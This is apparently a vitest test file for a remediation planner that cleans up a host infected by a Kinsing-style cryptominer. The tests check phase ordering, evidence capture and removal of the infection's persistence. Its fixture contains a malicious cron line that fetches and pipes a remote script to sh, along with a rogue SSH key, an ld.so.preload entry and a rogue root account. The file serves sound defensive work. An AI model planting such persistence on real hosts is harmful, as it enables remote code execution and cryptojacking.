import { describe, expect, it } from 'vitest';
import { PHASES } from '../../../src/actions/types.js';
import type { Artifact } from '../../../src/findings/types.js';
import { planRemediation, planSteps } from '../../../src/remediate/plan.js';
import { ctxFor, emptyFacts, textFile } from './facts-fixture.js';

// The whole plan of a kinsing-like host: phases in the responders' order, guards applied.

const cronLine = '* * * * * wget -q -O - http://198.18.4.250/s.sh | sh > /dev/null 2>&1';
const artifacts: Artifact[] = [
  { type: 'process', pid: 4242, comm: 'kdevtmpfsi', exe: '/tmp/kdevtmpfsi', startTime: 1_763_899_000, role: 'miner' },
  { type: 'process', pid: 4200, comm: 'kinsing', exe: '/etc/kinsing', startTime: 1_763_898_000, role: 'watchdog' },
  { type: 'cron-line', path: '/var/spool/cron/crontabs/root', lineNumber: 2, line: cronLine },
  { type: 'unit', path: '/etc/systemd/system/bot.service', name: 'bot.service', scope: 'system' },
  { type: 'preload', path: '/etc/ld.so.preload', entry: '/etc/libsystem.so' },
  { type: 'authorized-key', path: '/root/.ssh/authorized_keys', lineNumber: 2, fingerprint: 'SHA256:rogue', line: 'ssh-rsa AAAArogue x@y' },
  { type: 'authorized-key', path: '/root/.ssh/authorized_keys', lineNumber: 1, fingerprint: 'SHA256:controllerkey', line: 'ssh-ed25519 AAAActl ctl' },
  { type: 'egress', address: '198.18.4.250' },
  { type: 'egress', address: '198.18.4.1' },
  { type: 'immutable', path: '/var/spool/cron/crontabs/root', attrs: '----i---------e-------' },
  { type: 'renamed-binary', original: '/usr/bin/ps.original', replacement: '/usr/bin/ps' },
  { type: 'account', name: 'root', uid: 0 },
  { type: 'account', name: 'shaojiang99', uid: 0 },
  { type: 'redis', configPath: '/etc/redis/redis.conf', listen: ['0.0.0.0:6380'], pid: 77 },
];
const facts = emptyFacts({
  cron: [textFile('/var/spool/cron/crontabs/root', `0 3 * * * /usr/local/bin/backup.sh\n${cronLine}\n`)],
  attributes: { '/var/spool/cron/crontabs/root': '----i---------e-------' },
});

describe('planRemediation', () => {
  const plan = planRemediation(artifacts, ctxFor(facts));
  const steps = planSteps(plan);

  it('orders the steps in the responders\' phases', () => {
    const order = steps.map((s) => PHASES.indexOf(s.phase!));
    expect(order).toEqual([...order].sort((a, b) => a - b));
    for (const p of ['evidence', 'contain', 'unlock', 'persistence', 'access', 'processes', 'files', 'restore', 'verify'] as const) {
      expect(plan.phases[p].length, p).toBeGreaterThan(0);
    }
  });

  it('reads evidence (process exe and files) before any change', () => {
    const ev = plan.phases.evidence[0]!;
    expect(ev.command).toContain('/proc/4242/exe');
    expect(ev.command).toContain('/etc/libsystem.so');
    expect(ev.capture).toBe('evidence');
  });

  it('never blocks the controller, and never removes its key or root', () => {
    expect(plan.phases.contain.map((s) => s.description).join()).toContain('198.18.4.250');
    expect(plan.phases.contain.map((s) => s.command).join()).not.toContain('198.18.4.1 ');
    expect(plan.notes.join('\n')).toMatch(/198\.18\.4\.1 covers the controller/);
    expect(plan.phases.access.map((s) => s.command).join()).not.toContain('AAAActl');
    expect(plan.notes.join('\n')).toMatch(/root is never removed/);
    expect(plan.phases.access.some((s) => s.description.includes('shaojiang99'))).toBe(true);
  });

  it('shows the cron diff, keeping the legitimate line', () => {
    const cron = plan.phases.persistence.find((s) => s.description.includes('cron'))!;
    expect(cron.diff).toContain(`-${cronLine}`);
    expect(cron.diff).toContain(' 0 3 * * * /usr/local/bin/backup.sh');
  });

  it('kills watchdog before miner and quarantines the dropped executables', () => {
    const k = plan.phases.processes[0]!.command;
    // one ms_targets list, in the order they are stopped: the watchdog first
    const list = /ms_targets '([^']*)'/.exec(k)?.[1]?.split(' ').map((t) => t.split(':')[0]);
    expect(list).toEqual(['4200', '4242']);
    const files = plan.phases.files[0]!.command;
    for (const p of ['/tmp/kdevtmpfsi', '/etc/kinsing', '/etc/libsystem.so', '/usr/bin/ps']) expect(files).toContain(p);
    expect(plan.phases.restore[0]!.description).toBe('restore /usr/bin/ps from /usr/bin/ps.original');
  });

  it('leaves Redis to harden', () => {
    expect(plan.deferred).toHaveLength(1);
  });

  it('plans nothing for a clean host', () => {
    expect(planSteps(planRemediation([], ctxFor(emptyFacts())))).toEqual([]);
  });
});
